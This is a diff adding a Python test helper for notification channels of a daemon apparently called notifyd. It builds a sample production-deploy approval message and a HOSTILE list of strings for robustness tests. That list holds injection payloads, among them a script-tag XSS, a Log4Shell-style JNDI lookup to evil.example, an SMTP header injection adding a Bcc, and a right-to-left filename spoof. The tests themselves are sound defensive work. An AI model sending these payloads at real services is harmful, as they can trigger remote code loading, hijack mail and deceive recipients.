@@ -1,0 +1,78 @@
+"""What a channel under test is given: a message, texts meant to break it, and a context."""
+
+from __future__ import annotations
+
+import inspect
+import logging
+from collections.abc import AsyncIterator, Callable
+from contextlib import asynccontextmanager
+from typing import Any, Final
+
+import aiohttp
+from attrs import evolve
+
+from notifyd.plugin import SECOND, Action, Channel, ChannelContext, ChannelType, Field, Level, Message
+
+NOW: Final = 1_790_000_000 * SECOND
+"""What the clock of a channel under test says: 2026-09-21T14:13:20Z."""
+
+LINK: Final = "https://notify.acme.example/approvals/eyJhbGciOiJkaXIifQ..c2VjcmV0.bGluaw.dGFn"
+
+HOSTILE: Final = (
+    "<script>alert(1)</script> & <b>bold</b> &amp; &#x27;",
+    "*bold* _it_ ~no~ `code` ```block``` [link](https://evil.example) ||spoiler||",
+    "<!channel> <@U123> @everyone @here <https://evil.example|text>",
+    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil.example} %s %(x)s {0}",
+    "Subject: x\r\nBcc: eve@evil.example\r\n\r\n.\r\nQUIT\r\n",
+    "quote \" backslash \\ slash / single ' and \\u0041",
+    "nul \x00 escape \x1b[31m bell \x07 delete \x7f",
+    "right-to-left \u202egnp.exe\u202c isolate \u2066x\u2069 joiner \u200d",
+    "lone \ud800 surrogate and emoji 👩‍👩‍👧 ünï ẞ 漢字 مرحبا",
+    "line\u2028separator\u2029paragraph\ttab\n\n\nnewlines",
+)
+"""Texts that a message may hold and that must neither break a channel nor mean anything to its receiver."""
+
+
+def sample_message(**changes: Any) -> Message:
+    """An approval request as the daemon would give it, with `changes` to its attributes."""
+    message = Message(
+        id="5f0c3c2b7f9e4a6d8b1f0e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69",
+        title="Approval needed: Deploy to production",
+        body="ci@acme.example asks to deploy payments v3 to production.\n\nThree replicas will restart.",
+        level=Level.WARNING,
+        fields=(Field("Environment", "production"), Field("Requested by", "ci@acme.example")),
+        actions=(Action("Review and decide", LINK),),
+        locale="en",
+        event={
+            "kind": "pack.approval",
+            "action": "requested",
+            "occurredAt": "2026-09-21T14:00:00Z",
+            "tenant": {"id": "acme", "project": "payments"},
+            "runId": "run-0042",
+            "approvalId": "deploy-prod",
+            "correlationId": "c0ffee-42",
+        },
+    )
+    return evolve(message, **changes)
+
+
+@asynccontextmanager
+async def opened(
+    channel_type: ChannelType,
+    config: object,
+    *,
+    http: aiohttp.ClientSession | None = None,
+    clock: Callable[[], int] = lambda: NOW,
+) -> AsyncIterator[Channel]:
+    """The channel that `channel_type` opens with `config`, in a context of its own, closed at the end."""
+    async with http or aiohttp.ClientSession() as session:
+        context = ChannelContext(
+            "under-test", session, logging.getLogger("notifyd.channel.under-test"), clock
+        )
+        channel = channel_type.open(config, context)
+        if inspect.isawaitable(channel):
+            channel = await channel
+        try:
+            yield channel
+        finally:
+            await channel.aclose()
